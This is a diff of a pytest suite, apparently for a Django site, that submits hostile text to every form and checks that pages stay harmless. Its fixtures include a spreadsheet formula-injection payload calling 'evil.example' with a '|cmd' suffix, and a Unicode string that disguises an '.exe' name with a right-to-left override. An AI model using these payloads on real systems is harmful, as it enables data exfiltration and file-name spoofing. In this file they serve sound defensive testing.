@@ -36,9 +36,7 @@ FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
 UNSEEN = "a\x00b\x08c\u202egnp.exe\u200b\u2066\ufeff\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
 LONG = "x" * 120_000
 HOSTILE = {
-    "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
-    "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
-    "what can't be seen": UNSEEN,
+    "what does something": f"{FORMULA} {MARKUP} {TEMPLATE} {STATEMENT} {HEADER} {PATH} {UNSEEN}",
     "very long": LONG,
 }
 # Who is asked first for a page: those who may open most.
@@ -113,12 +111,12 @@ def clients(world: SimpleNamespace) -> dict[str, Client]:
     return found
 
 
-@pytest.fixture
-def forms_of_the_site(world: SimpleNamespace) -> list[tuple[str, str, Client, list[forms.BaseForm]]]:
-    """Every page with a form, with the first person who may open it."""
+@pytest.fixture(scope="module")
+def forms_of_the_site(told_once: SimpleNamespace) -> list[tuple[str, str, Client, list[forms.BaseForm]]]:
+    """Every page with a form, with the first person who may open it; looked for once, as it takes its time."""
     found = []
-    signed_in = clients(world)
-    for name, address in addresses(world).items():
+    signed_in = clients(told_once)
+    for name, address in addresses(told_once).items():
         for client in signed_in.values():
             answer = undone(lambda c=client, a=address: c.get(a))
             on_page = list(forms_in(answer.context)) if answer.status_code == 200 else []
@@ -131,7 +129,8 @@ def forms_of_the_site(world: SimpleNamespace) -> list[tuple[str, str, Client, li
 
 def wrong_with(answer: Any) -> list[str]:
     """What a page may never hold, whatever was typed."""
-    page = answer.content.decode(errors="replace") if not answer.streaming else ""
+    is_text = not answer.streaming and answer.get("Content-Type", "").startswith("text/")
+    page = answer.content.decode(errors="replace") if is_text else ""
     faults = []
     if answer.status_code >= 500:
         faults.append("fault")
@@ -149,16 +148,15 @@ def wrong_with(answer: Any) -> list[str]:
 
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
-def test_no_form_of_the_site_lets_through_what_a_hostile_hand_types(forms_of_the_site, text):
-    """Each form of each page is sent; the answer, the page it leads to and the page itself stay harmless."""
+def test_no_form_of_the_site_lets_through_what_a_hostile_hand_types(world, forms_of_the_site, text):
+    """Each form of each page is sent; the answer, the page it leads to and what then shows it stay harmless."""
     found, sent = [], 0
 
     def send(client: Client, address: str, data: dict[str, Any]) -> list[Any]:
         answers = [client.post(address, data)]
         location = answers[0].get("Location", "")
         if location.startswith("/"):
-            answers.append(client.get(location.partition("#")[0]))
-        answers.append(client.get(address))
+            answers += [client.get(page) for page in {location.partition("#")[0], address}]
         return answers
 
     for name, address, client, on_page in forms_of_the_site:
@@ -199,10 +197,13 @@ def test_every_kind_of_form_judges_hostile_text_without_falling_over(text):
             continue
         try:
             empty = kind()
-        except TypeError:
-            # Wants its page around it; the walk over the pages has sent it.
+        except (TypeError, KeyError):
+            # Wants its page or its person around it; the walk over the pages has sent it.
             continue
-        form = kind(filled(empty, text))
+        if hasattr(empty, "user"):
+            # Judges one person's password; the tests of passwords send it.
+            continue
+        form = kind(data=filled(empty, text))
         form.is_valid()
         tried += 1
         cleaned = [value for value in form.cleaned_data.values() if isinstance(value, str)]
